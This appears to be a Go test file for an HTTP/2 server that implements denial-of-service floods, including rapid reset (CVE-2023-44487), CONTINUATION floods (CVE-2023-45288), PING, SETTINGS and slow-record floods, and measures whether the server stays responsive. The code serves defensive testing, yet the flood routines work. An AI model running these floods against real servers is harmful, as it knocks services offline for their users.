package attack

import (
	"context"
	"fmt"
	"io"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// frameFloodConns is the number of flooding connections. They come from two addresses, so
// that each address exceeds its budget.
const frameFloodConns = 8

// floodHTTP2 calls write in a loop on several HTTP/2 connections until ctx ends, and
// reconnects when the server closes one. It returns the number of writes, and of
// connections that the server closed.
func (s *scenario) floodHTTP2(ctx context.Context, write func(f *http2Conn, i int) error) (writes int64, hungUp int64) {
	var n, gone atomic.Int64
	parallel(frameFloodConns, frameFloodConns, func(i int) {
		for ctx.Err() == nil {
			f, err := s.dialHTTP2(ctx, attackerAddr(i/4))
			if err != nil {
				sleep(ctx, 50*time.Millisecond)
				continue
			}
			go f.readFrames()
			for k := 0; err == nil && ctx.Err() == nil; k++ {
				if err = write(f, k); err == nil {
					n.Add(1)
				}
			}
			if ctx.Err() == nil {
				gone.Add(1)
			}
			f.Close()
		}
	})
	return n.Load(), gone.Load()
}

// floodResets opens streams and resets them immediately (CVE-2023-44487).
func (s *scenario) floodResets(ctx context.Context) (streams, hungUp int64) {
	return s.floodHTTP2(ctx, func(f *http2Conn, i int) error {
		id, err := f.openStream("GET", "/inbox", fmt.Sprint("reset", i%50), true)
		if err != nil {
			return err
		}
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// floodPings sends PING frames and reads the responses.
func (s *scenario) floodPings(ctx context.Context) (pings, hungUp int64) {
	return s.floodHTTP2(ctx, func(f *http2Conn, i int) error { return f.WritePing(false, [8]byte{byte(i)}) })
}

// floodSettings changes the settings repeatedly.
func (s *scenario) floodSettings(ctx context.Context) (settings, hungUp int64) {
	return s.floodHTTP2(ctx, func(f *http2Conn, i int) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
	})
}

// floodRecords sends headers with one TLS record per byte.
func (s *scenario) floodRecords(ctx context.Context) (records, hungUp int64) {
	var n, gone atomic.Int64
	request := requestHead("GET", "/inbox?wait=0", "tiny") + "X-Filler: " + strings.Repeat("x", 12<<10) + "\r\n\r\n"
	parallel(frameFloodConns, frameFloodConns, func(i int) {
		for ctx.Err() == nil {
			c, err := s.dial(ctx, attackerAddr(i/4), "http/1.1")
			if err != nil {
				sleep(ctx, 50*time.Millisecond)
				continue
			}
			for k := 0; err == nil && k < len(request); k++ {
				if _, err = io.WriteString(c, request[k:k+1]); err == nil {
					n.Add(1)
				}
			}
			if err != nil && ctx.Err() == nil {
				gone.Add(1)
			}
			c.Close()
		}
	})
	return n.Load(), gone.Load()
}

// measureFlood measures the latencies of good clients during a flood, and its CPU time.
func measureFlood(flood string, d time.Duration) func(context.Context, *scenario) {
	return func(ctx context.Context, s *scenario) {
		probes := s.newProbes(flooder{}, probeCount)
		defer s.runProbes(ctx, probes)()
		var baseline, underFlood phases
		began := s.cpu()
		baseline.add(phase{latencies: latenciesDuring(ctx, probes, func() { sleep(ctx, d) })})
		before := s.cpu()
		var writes, hungUp int64
		underFlood.add(phase{latencies: latenciesDuring(ctx, probes, func() {
			flooding, stop := context.WithTimeout(ctx, d)
			defer stop()
			writes, hungUp = s.runFloodProcess(flooding, flood)
		})})
		busy := s.cpu() - before - (before - began) // without the CPU time for the good clients
		s.addFigure("%d written in %v, %d connections closed, %d ms of CPU", writes, d, hungUp, busy.Milliseconds())
		s.addFigure("good clients' p50 / p99: quiet %s, flooded %s", &baseline, &underFlood)
		if most := d / 2; busy > most {
			s.fail("got %v of CPU time in %v, want at most %v", busy, d, most)
		}
	}
}

// pingsUnread makes the server queue PING responses that are never read.
func pingsUnread(ctx context.Context, s *scenario) {
	const conns, pings = 400, 20_000
	var sent, ended atomic.Int64
	parallel(conns, 100, func(i int) {
		c, err := s.dialSmallBuffer(ctx, attackerAddr(i/50), "h2")
		if err != nil {
			s.fail("connection %d: %v", i, err)
			return
		}
		f, err := startHTTP2(c)
		if err != nil {
			ended.Add(1)
			return
		}
		f.SetWriteDeadline(time.Now().Add(3 * time.Second)) // full socket buffers end the loop too
		n := int64(0)
		for ; err == nil && n < pings; n++ {
			err = f.WritePing(false, [8]byte{byte(n)})
		}
		sent.Add(n)
		if err != nil {
			ended.Add(1)
		}
	})
	sleep(ctx, time.Second)
	s.addFigure("%d connections, %d PINGs; %d connections blocked or closed", conns, sent.Load(), ended.Load())
}

// continuationFlood sends endless header blocks (CVE-2023-45288).
func continuationFlood(ctx context.Context, s *scenario) {
	var sent, most atomic.Int64
	parallel(50, 10, func(i int) {
		f, err := s.dialHTTP2(ctx, attackerAddr(i/25))
		if err != nil {
			s.fail("connection %d: %v", i, err)
			return
		}
		defer f.Close()
		go f.readFrames()
		_, err = f.openStream("GET", "/inbox", "reset", true, fillerFields(8<<10)...)
		if err == nil {
			err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.nextStreamID, BlockFragment: f.headerBlock.Bytes()})
		}
		n := int64(0)
		for ; err == nil && n < 100_000; n++ {
			err = f.WriteContinuation(f.nextStreamID, false, f.headerBlock.Bytes())
		}
		sent.Add(n)
		most.Store(max(most.Load(), n))
		if err == nil {
			s.fail("got %d CONTINUATION frames of 8 KiB accepted, want the connection closed", n)
		}
	})
	s.addFigure("at most %d frames of 8 KiB before the server closed a connection, %d on 50 connections", most.Load(), sent.Load())
}

// unreadResponses sends requests with large headers and grants the server no window for
// the responses: each response keeps its request in memory.
func unreadResponses(ctx context.Context, s *scenario) {
	const conns, streams = 120, 100
	var opened atomic.Int64
	var h2conns [conns]*http2Conn
	parallel(conns, 20, func(i int) {
		f, err := s.dialHTTP2(ctx, attackerAddr(i/24), http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			s.fail("connection %d: %v", i, err)
			return
		}
		h2conns[i] = f
		go f.readFrames()
		for range streams {
			if _, err := f.openStream("GET", "/nothing", "reader", true, fillerFields(14<<10)...); err != nil {
				return
			}
			opened.Add(1)
		}
	})
	sleep(ctx, 3*time.Second)
	responses, resets := closeAll(h2conns[:])
	s.addFigure("%d connections of 5 addresses, %d requests with headers of 14 KiB: %d unread responses, %d refused",
		conns, opened.Load(), responses, resets)
}

// unreadBodies sends bodies with polls. The server does not read them while the polls
// wait.
func unreadBodies(ctx context.Context, s *scenario) {
	const conns = 500
	var sent atomic.Int64
	var h2conns [conns]*http2Conn
	chunk := make([]byte, 16<<10)
	parallel(conns, 20, func(i int) {
		f, err := s.dialHTTP2(ctx, attackerAddr(i/50))
		if err != nil {
			s.fail("connection %d: %v", i, err)
			return
		}
		h2conns[i] = f
		go f.readFrames()
		sleep(ctx, 100*time.Millisecond) // until the server's settings arrive
		id, err := f.openStream("GET", "/inbox", fmt.Sprint("poll", i), false)
		for left := min(f.connWindow.Load(), f.streamWindow.Load()); err == nil && left > 0; left -= int64(len(chunk)) {
			if err = f.WriteData(id, false, chunk[:min(left, int64(len(chunk)))]); err == nil {
				sent.Add(min(left, int64(len(chunk))))
			}
		}
	})
	sleep(ctx, 2*time.Second)
	for _, f := range h2conns {
		if f != nil {
			f.Close()
		}
	}
	s.addFigure("%d waiting polls with %d MiB of bodies", conns, sent.Load()>>20)
}

// abandonedConns closes connections with a pending request and body, as fast as an address
// can open new ones.
func abandonedConns(d time.Duration) func(context.Context, *scenario) {
	return func(ctx context.Context, s *scenario) {
		flooding, cancel := context.WithTimeout(ctx, d)
		defer cancel()
		var opened, refused atomic.Int64
		parallel(16, 16, func(worker int) {
			for i := worker; flooding.Err() == nil; i += 16 {
				f, err := s.dialHTTP2(flooding, attackerAddr(i%10))
				if err != nil {
					refused.Add(1)
					continue
				}
				id, err := f.openStream("GET", "/inbox", fmt.Sprint("abandoned", worker), false)
				for range 4 {
					if err == nil {
						err = f.WriteData(id, false, make([]byte, 15<<10))
					}
				}
				sleep(flooding, 5*time.Millisecond) // until the server has read the frames
				f.Close()
				opened.Add(1)
			}
		})
		s.addFigure("%d connections abandoned in %v, %d refused", opened.Load(), d, refused.Load())
	}
}
